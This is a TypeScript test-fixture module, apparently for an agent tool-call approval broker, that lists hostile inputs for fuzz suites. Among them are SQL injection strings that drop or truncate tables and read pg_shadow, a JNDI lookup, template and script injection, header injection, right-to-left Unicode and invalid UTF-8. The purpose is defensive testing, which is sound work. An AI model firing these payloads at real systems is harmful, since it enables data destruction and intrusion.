import { actionDigest, newId } from "@airlock/shared";

// The catalogue of hostile input every hostile suite draws from. Every string an attacker controls gets
// SQL metacharacters, huge strings, control characters and odd Unicode; every payload a broker carries
// gets malformed JSON, wrong types, missing and unknown fields, oversize, deep nesting, a wrong digest
// and invalid UTF-8.

/** Strings that break naive SQL, shells, logs or parsers. Each must be stored and shown exactly as sent. */
export const SQL_METACHARACTERS = [
  "' OR '1'='1",
  "'; drop table audit.log; --",
  '"; select pg_sleep(5); --',
  "\\'; truncate approvals.requests cascade; --",
  "%_%",
  "$1::text",
  "E'\\\\x41'",
  "/* comment */ union select * from pg_shadow --",
  "${jndi:ldap://example.invalid/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "\r\nX-Injected: header",
  "Robert'); DROP TABLE policy.decisions;--",
];

/**
 * Odd but valid Unicode: right-to-left overrides, zero-width joiners, emoji, combining marks, a byte-order
 * mark inside a string. (A string that *begins* with U+FEFF has a test of its own: storage-edges.test.ts.)
 */
export const ODD_UNICODE = ["\u202Eevil\u202C", "a\u200Db", "💣🔥", "e\u0301\u0301\u0301", "in\uFEFFside", "ℌ𝔢𝔩𝔩𝔬"];

/** A string of `n` characters. */
export function huge(n: number, unit = "x"): string {
  return unit.repeat(Math.ceil(n / unit.length)).slice(0, n);
}

/** `[[[ … ]]]` nested `depth` levels, built without recursion. */
export function nestedArrays(depth: number): unknown {
  let value: unknown = [];
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}

/** The JSON text of arrays nested `depth` levels (JSON.stringify itself recurses, so it is built as text). */
export function nestedArraysJson(depth: number): string {
  return "[".repeat(depth) + "]".repeat(depth);
}

/** `{ "a": { "a": … } }` nested `depth` levels, as JSON text. */
export function nestedObjectsJson(depth: number): string {
  return '{"a":'.repeat(depth) + "{}" + "}".repeat(depth);
}

/** Byte sequences that are not UTF-8: a lone continuation byte, an overlong slash, a surrogate, truncation, 0xFF. */
export const INVALID_UTF8: ReadonlyArray<{ name: string; bytes: Buffer }> = [
  { name: "0xff", bytes: Buffer.from([0xff]) },
  { name: "lone continuation byte", bytes: Buffer.from([0x80]) },
  { name: "overlong slash", bytes: Buffer.from([0xc0, 0xaf]) },
  { name: "UTF-8-encoded surrogate", bytes: Buffer.from([0xed, 0xa0, 0x80]) },
  { name: "truncated sequence", bytes: Buffer.from([0xe2, 0x82]) },
];

/** JSON text with `bytes` spliced into a string value: valid JSON but for the encoding. */
export function jsonWithBytes(prefix: string, bytes: Buffer, suffix: string): Buffer {
  return Buffer.concat([Buffer.from(prefix), bytes, Buffer.from(suffix)]);
}

/** A valid `tool_call.requested` data object for an agent and tool, with its digest. */
export function callData(
  agent: string,
  tool: string,
  args: Record<string, unknown>,
  extra: Record<string, unknown> = {},
): Record<string, unknown> {
  return {
    call_id: newId(),
    agent_id: agent,
    run_id: newId(),
    tool,
    args,
    action_digest: actionDigest({ agent_id: agent, tool, args }),
    context: {},
    metadata: {},
    ...extra,
  };
}

/** A CloudEvents envelope around `data`, as JSON-ready object (not validated: it may be anything). */
export function envelope(type: string, data: unknown, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    specversion: "1.0",
    id: newId(),
    type,
    source: "hostile/test",
    time: new Date().toISOString(),
    datacontenttype: "application/json",
    data,
    ...extra,
  };
}
